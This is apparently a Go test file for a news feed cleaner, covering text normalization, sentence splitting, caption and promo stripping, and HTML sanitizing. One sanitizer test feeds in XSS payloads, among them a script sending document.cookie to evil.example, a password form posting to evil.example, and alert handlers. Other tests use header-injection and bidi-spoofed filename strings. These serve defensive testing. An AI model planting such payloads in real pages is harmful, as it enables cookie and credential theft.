package articles

import (
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestNormalizeText(t *testing.T) {
	test := func(in, want string) {
		t.Helper()
		if got := NormalizeText(in); got != want {
			t.Errorf("NormalizeText(%q) = %q, want %q", in, got, want)
		}
	}
	test("  a\u00a0\u00a0b\t c\r\nd  ", "a b c d")
	test("Weekly digest\r\nBcc: x@example\r\nX-Injected: yes", "Weekly digest Bcc: x@example X-Injected: yes")
	test("   \u00a0\t  ", "")
	test("report\u202efdp.exe", "report\u202efdp.exe")             // bidi override kept: renderers isolate it
	test("👨\u200d👩\u200d👧\u200d👦 🇲🇦", "👨\u200d👩\u200d👧\u200d👦 🇲🇦") // ZWJ sequences intact
	test("a\x00b\u0085c\u2028d", "a b c d")
	test("bad \xff utf8", "bad \uFFFD utf8")
	test("\ufeffzero\u200bwidth", "zerowidth")
}

func TestSplitSentences(t *testing.T) {
	test := func(in string, want ...string) {
		t.Helper()
		got := splitSentences(in)
		if strings.Join(got, "|") != strings.Join(want, "|") {
			t.Errorf("splitSentences(%q)\n got %q\nwant %q", in, got, want)
		}
	}
	test("One. Two! Three? Four", "One.", "Two!", "Three?", "Four")
	test("The U.S. Army said so. Then it left.", "The U.S. Army said so.", "Then it left.")
	test("It was a rebuff to U.S.-led efforts. More followed.", "It was a rebuff to U.S.-led efforts.", "More followed.")
	test("The Pentagon’s spokesman, Brig, Gen. Patrick Ryder, told reporters. Next.", "The Pentagon’s spokesman, Brig, Gen. Patrick Ryder, told reporters.", "Next.")
	test("He broke out on Aug. 31 and was caught. Dogs helped.", "He broke out on Aug. 31 and was caught.", "Dogs helped.")
	test("Sen. Mitt Romney of Utah spoke. Gov. Smith did not.", "Sen. Mitt Romney of Utah spoke.", "Gov. Smith did not.")
	test("John F. Kennedy flew. It rained.", "John F. Kennedy flew.", "It rained.")
	test("“We remain concerned,” he said. “Very.”", "“We remain concerned,” he said.", "“Very.”")
	test("At 11:59 p.m. Thursday the deal ends. Talks go on.", "At 11:59 p.m. Thursday the deal ends.", "Talks go on.")
	test("Prices rose 0.6% in August. Core eased.", "Prices rose 0.6% in August.", "Core eased.")
}

func TestLeadOf(t *testing.T) {
	s := func(n int, c string) string { return strings.Repeat(c, n) }
	// At most three sentences.
	got := LeadOf([]string{"One is here. Two is here. Three is here. Four is here."})
	if got != "One is here. Two is here. Three is here." {
		t.Errorf("three sentences: %q", got)
	}
	// Across paragraphs, still at a sentence boundary.
	got = LeadOf([]string{"First paragraph.", "Second paragraph. Third one.", "Fourth."})
	if got != "First paragraph. Second paragraph. Third one." {
		t.Errorf("across paragraphs: %q", got)
	}
	// The next sentence would pass 300 characters: stop before it.
	first := "A " + s(200, "b") + "."
	second := "C " + s(120, "d") + "."
	if got := LeadOf([]string{first + " " + second}); got != first {
		t.Errorf("300 cap: got %d chars", utf8.RuneCountInString(got))
	}
	// A first sentence longer than 300: cut at a word, with an ellipsis.
	long := strings.Repeat("word ", 100) + "end."
	got = LeadOf([]string{long})
	if n := utf8.RuneCountInString(got); n > MaxLead || !strings.HasSuffix(got, "…") || strings.HasSuffix(got, " …") {
		t.Errorf("long sentence: %d chars %q", n, got)
	}
	if !strings.HasPrefix(long, strings.TrimSuffix(got, "…")) || strings.HasSuffix(strings.TrimSuffix(got, "…"), "wor") {
		t.Errorf("long sentence not cut at a word: %q", got)
	}
	if LeadOf(nil) != "" {
		t.Error("empty body gives a lead")
	}
}

func TestCleanBodyCaptionsAndPromos(t *testing.T) {
	caption := "Rescuers search for survivors in Derna, Libya, on Tuesday, Sept. 12, 2023."
	story := "Two dams burst when Storm Daniel dumped torrential rain. Thousands are missing."
	c := NewCleaner()

	// Caption, then caption + credit, then the story (the seed's pattern).
	html := "<p>" + caption + "</p><p>" + caption + " (Omar Haddad, Pacific Stripes Daily pool)</p><p>" + story + "</p>"
	if got := c.Lead(html); got != story {
		t.Errorf("caption+credit: lead %q", got)
	}
	if got := c.Paragraphs(html); len(got) != 1 || got[0] != story {
		t.Errorf("caption+credit: body %q", got)
	}
	// The same caption twice, exactly: kept once in the body, never the lead.
	html = "<p>" + caption + "</p><p>" + caption + "</p><p>" + story + "</p>"
	if got := c.Lead(html); got != story {
		t.Errorf("repeated caption: lead %q", got)
	}
	if got := c.Paragraphs(html); strings.Count(strings.Join(got, "\n"), caption) != 1 {
		t.Errorf("repeated caption kept %d times", strings.Count(strings.Join(got, "\n"), caption))
	}
	// A figcaption is a caption even once.
	html = `<figure><img src="x.jpg"><figcaption>` + caption + ` <span class="credit">(AP Photo)</span></figcaption></figure><p>` + story + `</p>`
	if got := c.Lead(html); got != story {
		t.Errorf("figcaption: lead %q", got)
	}
	// A leading paragraph ending in an agency credit.
	if got := TextLead(caption + " (AP Photo/Jane Doe)\n\n" + story); got != story {
		t.Errorf("agency credit: lead %q", got)
	}

	// Promos of other outlets, at the end and inline.
	for _, promo := range []string{
		"Sign Up for Daily Headlines",
		"Sign up to receive a daily email of today's top stories.",
		"Sign Up Now",
		"Subscribe to our newsletter for the latest news.",
		"Get our free Morning Briefing newsletter delivered to your inbox.",
		"Don’t miss a story: sign up for our newsletter.",
		"The post Council approves budget appeared first on Springfield Times.",
		"Read more",
		"This is a developing story and will be updated.",
		"Already a subscriber? Log in.",
	} {
		got := TextParagraphs(story + "\n\n" + promo)
		if len(got) != 1 || got[0] != story {
			t.Errorf("promo %q not removed: %q", promo, got)
		}
	}
	got := TextParagraphs(story + "\n\nSign up for our newsletter!\n\nThe mayor spoke later.")
	if strings.Contains(strings.Join(got, " "), "Sign up") {
		t.Errorf("inline promo kept: %q", got)
	}
	// A story paragraph that merely mentions subscriptions stays.
	keep := "Subscribers to the city's water service will see rates rise, officials said, and the newsletter of the utility confirmed it."
	if got := TextParagraphs(story + "\n\n" + keep); len(got) != 2 {
		t.Errorf("story paragraph taken for a promo: %q", got)
	}
	// Promo blocks recognised by markup: class names.
	html = `<p>` + story + `</p><div class="newsletter-promo"><h3>Get the Morning Edition</h3><p>Every weekday.</p></div><aside><p>Related: other</p></aside>`
	if got := c.Paragraphs(html); len(got) != 1 {
		t.Errorf("promo block by class: %q", got)
	}
	// A class that merely contains a furniture word as a substring stays.
	html = `<div class="headline-body"><p>` + story + `</p></div>`
	if got := c.Paragraphs(html); len(got) != 1 {
		t.Errorf("story under class headline-body lost: %q", got)
	}
}

func TestSanitizeDropsActiveContent(t *testing.T) {
	c := NewCleaner()
	in := `<div onmouseover="alert(3)"><img src=x onerror=alert(4)><object data="https://evil.example/x.swf">fallback</object>` +
		`<p>Photos <iframe src="https://evil.example/frame">inner</iframe><style>body{display:none}</style>` +
		`<script>document.location='https://evil.example/?c='+document.cookie</script>` +
		`<a href="javascript:alert(1)" onclick="steal()">Gallery</a></p>` +
		`<form action="https://evil.example/steal"><input name="password"><label>Password</label></form></div>`
	got := c.Text(in)
	if got != "Photos Gallery" {
		t.Errorf("Text = %q", got)
	}
	for _, bad := range []string{"alert", "evil", "display:none", "fallback", "inner", "Password", "<"} {
		if strings.Contains(got, bad) {
			t.Errorf("%q survived: %q", bad, got)
		}
	}
}

func TestTitleRule(t *testing.T) {
	c := NewCleaner()
	// SPEC §4: markup in a feed title is removed (script and style with
	// their content), entities decoded; text that only looks like markup
	// stays.
	for in, want := range map[string]string{
		`<script>alert(1)</script> Council votes 5–4 on "pier" plan & budget`: `Council votes 5–4 on "pier" plan & budget`,
		`<b>Breaking</b>: AT&amp;T & T-Mobile <i>unclosed <a href="x">tag`:    `Breaking: AT&T & T-Mobile unclosed tag`,
		`<b>Breaking</b>: AT&amp;T &amp; T-Mobile <script>x()</script>`:       `Breaking: AT&T & T-Mobile`,
		`5 < 6 and 7 > 3, AT&T`: `5 < 6 and 7 > 3, AT&T`,
	} {
		if got := c.Title(in); got != want {
			t.Errorf("Title(%q) = %q, want %q", in, got, want)
		}
	}
	if got := c.Title("Weekly digest\r\nBcc: all@example\r\n"); strings.ContainsAny(got, "\r\n") {
		t.Errorf("CR/LF kept: %q", got)
	}
}

func TestFirstSentence(t *testing.T) {
	if got := FirstSentence("An item whose title element is empty. More text."); got != "An item whose title element is empty." {
		t.Errorf("FirstSentence = %q", got)
	}
	if got := FirstSentence(strings.Repeat("x ", 400)); utf8.RuneCountInString(got) > MaxLead {
		t.Errorf("FirstSentence too long: %d", utf8.RuneCountInString(got))
	}
}

// tagRe finds what would be a complete HTML tag in text.
var tagRe = regexp.MustCompile(`<[a-zA-Z/!?][^<>]*>`)

// checkCleanText holds for every text field the cleaner produces.
func checkCleanText(t *testing.T, what, in, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("%s(%q) = %q: invalid UTF-8", what, in, out)
	}
	for _, r := range out {
		if unicode.IsControl(r) {
			t.Fatalf("%s(%q) = %q: control character %U", what, in, out, r)
		}
	}
	if out != strings.TrimSpace(out) || strings.Contains(out, "  ") {
		t.Fatalf("%s(%q) = %q: whitespace not normalized", what, in, out)
	}
}

func FuzzClean(f *testing.F) {
	for _, s := range []string{
		"<p>Caption.</p><p>Caption. (Credit, Agency)</p><p>SEOUL — The story. It goes on.</p><p>Sign Up Now</p>",
		`<div onmouseover="x"><img src=x onerror=alert(4)><p>Caption <b>bold</b></p></div>`,
		`Price &lt; $5 &gt; cost &amp; "quotes" </code></pre> <tg-spoiler> &amp;lt;literal&amp;gt;`,
		"<script>alert(1)</script> Council votes 5–4 &amp; more",
		"plain text\n\nwith paragraphs\u00a0and\ttabs. U.S. Gen. Sept. 13. Next!",
		"report\u202efdp.exe 👨\u200d👩\u200d👧\u200d👦 \xff",
		"<figure><figcaption>c</figcaption></figure><p>" + strings.Repeat("word ", 80) + "</p>",
		"<p>a<p>b<div class=\"ad-slot\">x</div><aside>r</aside>",
	} {
		f.Add(s)
	}
	c := NewCleaner()
	f.Fuzz(func(t *testing.T, in string) {
		lead := c.Lead(in)
		checkCleanText(t, "Lead", in, lead)
		if n := utf8.RuneCountInString(lead); n > MaxLead {
			t.Fatalf("Lead(%q) has %d characters", in, n)
		}
		paras := c.Paragraphs(in)
		for _, p := range paras {
			checkCleanText(t, "Paragraphs", in, p)
			if p == "" {
				t.Fatalf("Paragraphs(%q) has an empty paragraph", in)
			}
		}
		// Without entities in the input, any "<tag" in the output would be
		// markup that survived.
		if !strings.Contains(in, "&") {
			for _, p := range paras {
				if tagRe.MatchString(p) {
					t.Fatalf("Paragraphs(%q): markup left in %q", in, p)
				}
			}
			if title := c.Title(in); tagRe.MatchString(title) {
				t.Fatalf("Title(%q): markup left in %q", in, title)
			}
		}
		title := NormalizeText(in)
		checkCleanText(t, "NormalizeText", in, title)
		textLead := TextLead(in)
		checkCleanText(t, "TextLead", in, textLead)
		if n := utf8.RuneCountInString(textLead); n > MaxLead {
			t.Fatalf("TextLead(%q) has %d characters", in, n)
		}
		if NormalizeText(title) != title {
			t.Fatalf("NormalizeText not idempotent on %q", title)
		}
	})
}

// A wrapper whose class happens to contain a furniture word must not lose
// the whole story.
func TestClassHintsNeverLoseEverything(t *testing.T) {
	c := NewCleaner()
	got := c.Paragraphs(`<div class="entry-content has-ads"><p>The council met. It voted.</p></div>`)
	if len(got) != 1 || got[0] != "The council met. It voted." {
		t.Errorf("%q", got)
	}
}
